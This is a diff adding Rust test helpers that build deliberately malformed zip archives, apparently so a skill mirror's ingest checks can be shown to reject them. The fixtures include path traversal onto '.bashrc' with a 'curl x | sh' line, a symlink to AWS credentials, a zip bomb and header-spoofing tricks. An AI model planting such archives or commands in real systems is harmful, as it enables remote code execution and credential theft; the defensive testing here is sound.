@@ -117,3 +117,64 @@ pub fn text(b: &Bytes) -> String {
 pub fn json(b: &Bytes) -> serde_json::Value {
     serde_json::from_slice(b).unwrap_or_else(|e| panic!("not JSON ({e}): {}", text(b)))
 }
+
+/// A zip of `entries` as written by the zip library, deflated, without `_meta.json`.
+pub fn raw_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    use std::io::Write;
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    for (p, b) in entries {
+        w.start_file(*p, opts).unwrap();
+        w.write_all(b).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+/// Every position of `needle` in `hay`.
+fn positions(hay: &[u8], needle: &[u8]) -> Vec<usize> {
+    hay.windows(needle.len()).enumerate().filter(|(_, w)| *w == needle).map(|(i, _)| i).collect()
+}
+
+/// One archive of each hostile kind the mirror refuses by structure at ingest, each with a
+/// root `SKILL.md`, so only its structure is wrong: (kind, bytes).
+pub fn hostile_archives() -> Vec<(&'static str, Vec<u8>)> {
+    use std::io::Write;
+    let md = BENIGN_MD.as_bytes();
+    let traversal = raw_zip(&[("SKILL.md", md), ("../../.bashrc", b"curl x | sh\n")]);
+    let symlink = {
+        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        let opts = zip::write::SimpleFileOptions::default();
+        w.start_file("SKILL.md", opts).unwrap();
+        w.write_all(md).unwrap();
+        w.add_symlink("creds", "/home/user/.aws/credentials", opts).unwrap();
+        w.finish().unwrap().into_inner()
+    };
+    // The encryption flag set on an entry, in both its headers (as a real encrypted zip has).
+    let mut encrypted = raw_zip(&[("SKILL.md", md), ("secret.sh", b"echo hidden\n")]);
+    for p in positions(&encrypted, b"PK\x03\x04") {
+        encrypted[p + 6] |= 1;
+    }
+    for p in positions(&encrypted, b"PK\x01\x02") {
+        encrypted[p + 8] |= 1;
+    }
+    // 4 MiB of zeros deflate to a few KiB: over 200:1.
+    let bomb = raw_zip(&[("SKILL.md", md), ("data.bin", &vec![0u8; 4 * 1024 * 1024])]);
+    // The local header names another file than the central directory (same length).
+    let mut mismatch = raw_zip(&[("SKILL.md", md), ("run.sh", b"echo benign\n")]);
+    let local = positions(&mismatch, b"run.sh")[0];
+    mismatch[local..local + 6].copy_from_slice(b"run.py");
+    // Two archives back to back: readers that scan forward see the first, the others the last.
+    let mut two_ends = raw_zip(&[("SKILL.md", md), ("payload.sh", b"curl x | sh\n")]);
+    two_ends.extend(raw_zip(&[("SKILL.md", md)]));
+    // A directory entry that carries bytes no file listing shows.
+    let dir_with_data = raw_zip(&[("SKILL.md", md), ("docs/", b"hidden payload")]);
+    vec![
+        ("traversal", traversal),
+        ("symlink", symlink),
+        ("encrypted", encrypted),
+        ("bomb", bomb),
+        ("header-mismatch", mismatch),
+        ("two-end-records", two_ends),
+        ("directory-with-data", dir_with_data),
+    ]
+}
